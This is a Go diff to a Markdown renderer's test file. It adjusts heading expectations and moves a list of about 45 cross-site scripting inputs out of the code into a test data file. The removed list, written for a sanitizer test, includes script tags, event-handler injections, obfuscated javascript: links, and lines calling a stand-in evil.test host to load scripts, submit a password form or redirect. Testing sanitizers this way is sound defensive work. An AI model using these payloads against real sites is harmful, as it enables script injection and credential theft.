@@ -1,6 +1,7 @@
 package views
 
 import (
+	"os"
 	"regexp"
 	"strings"
 	"testing"
@@ -14,7 +15,8 @@ func TestMarkdown(t *testing.T) {
 		{"", ""},
 		{"Write **three** things _down_, ~~or four~~.", "<p>Write <strong>three</strong> things <em>down</em>, <del>or four</del>.</p>"},
 		{"# First\n\nSecond\n------", "<h2>First</h2>\n<h3>Second</h3>"},
-		{"###### Last", "<h6>Last</h6>"},
+		{"###### Last", "<h2>Last</h2>"},
+		{"## A\n\n#### B\n\n## C\n\n### D", "<h2>A</h2>\n<h3>B</h3>\n<h2>C</h2>\n<h3>D</h3>"},
 		{"3. c\n4. d", "<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>"},
 		{"> Yes", "<blockquote>\n<p>Yes</p>\n</blockquote>"},
 		{"`a < b`", "<p><code>a &lt; b</code></p>"},
@@ -35,52 +37,13 @@ func TestMarkdown(t *testing.T) {
 }
 
 // attacks are texts that would run something, fetch something or change the page if they were taken for more than text.
-var attacks = []string{
-	`<script>evil()</script>`,
-	`<script src="https://evil.test/x.js"></script>`,
-	`<img src=x onerror=evil()>`,
-	`<svg onload=evil()><script>evil()</script></svg>`,
-	`<svg><a xlink:href="javascript:evil()"><text>x</text></a></svg>`,
-	`<math><mtext><table><mglyph><style><img src=x onerror=evil()>`,
-	`<iframe srcdoc="<script>parent.evil()</script>"></iframe>`,
-	`<object data="data:text/html,<script>evil()</script>"></object>`,
-	`<embed src="javascript:evil()">`,
-	`<form action="https://evil.test"><input name=password autofocus onfocus=evil()></form>`,
-	`<style>body{display:none}</style><link rel=stylesheet href=https://evil.test/x.css>`,
-	`<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test">`,
-	`<details open ontoggle=evil()><summary>x</summary></details>`,
-	`<div style="position:fixed;inset:0" id="evil" class="notice">x</div>`,
-	`</div></main></body><script>evil()</script>`,
-	"<!--><script>evil()</script>-->",
-	`[a](javascript:evil())`,
-	`[a](JaVaScRiPt:evil())`,
-	`[a](&#106;avascript:evil())`,
-	`[a](javascript&colon;evil())`,
-	`[a](java&Tab;script:evil())`,
-	"[a](\x01javascript:evil())",
-	`[a](vbscript:evil())`,
-	`[a](data:text/html,<script>evil()</script>)`,
-	`[a](data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=)`,
-	`[a](blob:https://evil.test/x)`,
-	`[a](file:///etc/passwd)`,
-	`<javascript:evil()>`,
-	`[a]: javascript:evil()` + "\n\n[a]",
-	`[a](https://example.com/"onclick="evil())`,
-	`[a](https://example.com 'x" onmouseover="evil()')`,
-	`![a](javascript:evil())`,
-	`![a](data:image/svg+xml,<svg onload=evil()>)`,
-	`![a](http://evil.test/x.png)`,
-	`![a](//evil.test/x.png)`,
-	`![a](/sign-out)`,
-	`![a"onerror="evil()](https://example.com/x.png)`,
-	`![a](https://example.com/x.png"onerror="evil())`,
-	"```\"><script>evil()</script>\nx\n```",
-	"```js onload=evil()\nx\n```",
-	"# <script>evil()</script> {onclick=evil()}",
-	"|<img src=x onerror=evil()>|\n|-|\n|[a](javascript:evil())|",
-	"{{.Token}} <%= evil() %> ${evil()} hx-get=/sign-out",
-	`<a hx-get="/sign-out" hx-trigger="load">x</a>`,
-	"a\x00<script>evil()</script>",
+func attacks(t *testing.T) []string {
+	t.Helper()
+	file, err := os.ReadFile("testdata/attacks.txt") // which a test with a browser reads as well
+	if err != nil {
+		t.Fatal(err)
+	}
+	return strings.Split(strings.NewReplacer(`\0`, "\x00", `\1`, "\x01").Replace(strings.TrimSuffix(string(file), "\n")), "\n%%\n")
 }
 
 var harmlessAddress = regexp.MustCompile(`^(https?://|mailto:|tel:|/|#|[\w.-]+$)`)
@@ -91,7 +54,7 @@ func TestMarkdownAttacks(t *testing.T) {
 	elements := map[string][]string{"p": nil, "h2": nil, "h3": nil, "strong": nil, "em": nil, "del": nil, "ul": nil, "ol": {"start"}, "li": nil, "blockquote": nil, "br": nil,
 		"hr": nil, "pre": nil, "code": nil, "table": nil, "thead": nil, "tbody": nil, "tr": nil, "th": {"align"}, "td": {"align"}, "a": {"href", "rel", "target"},
 		"img": {"loading", "decoding", "src", "alt"}}
-	for _, attack := range attacks {
+	for _, attack := range attacks(t) {
 		made := string(Markdown(attack))
 		tokens := html.NewTokenizer(strings.NewReader(made))
 		for kind := tokens.Next(); kind != html.ErrorToken; kind = tokens.Next() {
